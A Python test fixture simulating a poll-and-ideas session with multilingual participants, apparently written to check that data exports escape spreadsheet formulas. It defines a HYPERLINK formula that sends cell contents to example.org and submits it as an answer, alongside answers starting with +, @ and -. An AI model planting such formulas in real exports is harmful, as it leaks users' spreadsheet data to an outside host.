@@ -1,0 +1,50 @@
+"""What happened in the sessions of the tests."""
+
+from tests.cast import ANDERS, ELENA, GIORGOS, JURGEN, MARIA, SIOBHAN, ZOFIA
+from tests.factories import Gathering
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"look")'
+"""What a spreadsheet would carry out, were it not told that it is text."""
+
+
+def ask_everything(gathering: Gathering) -> None:
+    """Five people answer the four questions: some change their minds, write in their own script, or a formula."""
+    gathering.go_live()
+    for poll in ("way", "progress", "barriers", "words"):
+        gathering.steer(MARIA, "open_poll", poll_id=gathering.poll(poll).id)
+    gathering.answer(ELENA, "way", "Alone")
+    gathering.answer(ELENA, "way", "In a team")
+    gathering.answer(JURGEN, "way", "In a team")
+    gathering.answer(ZOFIA, "way", other="+48 na zmianę")
+    gathering.answer(ELENA, "progress", "Planned")
+    gathering.answer(GIORGOS, "progress", "Not yet")
+    gathering.answer(SIOBHAN, "progress", "Not for us")
+    gathering.answer(JURGEN, "progress", "Planned")
+    gathering.answer(ELENA, "barriers", "Care", "Shifts")
+    gathering.answer(GIORGOS, "barriers", "Care", other=FORMULA)
+    gathering.answer(JURGEN, "barriers", "Cost", "Care")
+    gathering.answer(GIORGOS, "words", "Οι βάρδιες αλλάζουν κάθε εβδομάδα")
+    gathering.answer(ZOFIA, "words", "@brak żłobka,\nbrak czasu")
+    gathering.steer(MARIA, "close_poll", poll_id=gathering.poll("barriers").id)
+
+
+def collect_ideas(gathering: Gathering) -> None:
+    """Three ideas: one is shown, pinned and supported, one is declined, one is taken back by its author."""
+    gathering.steer(ANDERS, "open_board", board_id=gathering.board().id)
+    offer = gathering.suggest(SIOBHAN, "Offer", "Cuirimid ár n-ábhar ar fáil")
+    gathering.suggest(JURGEN, "Ask", "-10 % Gebühr, bitte")
+    gathering.suggest(ZOFIA, "Idea", "Wspólny katalog kursów")
+    gathering.steer(ANDERS, "review_post", post_id=offer.id, state="approved")
+    gathering.steer(ANDERS, "review_post", post_id=gathering.post("-10 % Gebühr, bitte").id, state="declined")
+    gathering.steer(ANDERS, "pin_post", post_id=offer.id, pinned=True)
+    gathering.steer(ANDERS, "reveal_board", board_id=gathering.board().id, revealed=True)
+    gathering.send(ZOFIA, "withdraw_post", post_id=gathering.post("Wspólny katalog kursów").id)
+    gathering.send(ELENA, "support_post", post_id=offer.id, supported=True)
+    gathering.send(JURGEN, "support_post", post_id=offer.id, supported=True)
+
+
+def hold(gathering: Gathering) -> None:
+    """The whole of it, from the doors to the end."""
+    ask_everything(gathering)
+    collect_ideas(gathering)
+    gathering.end()
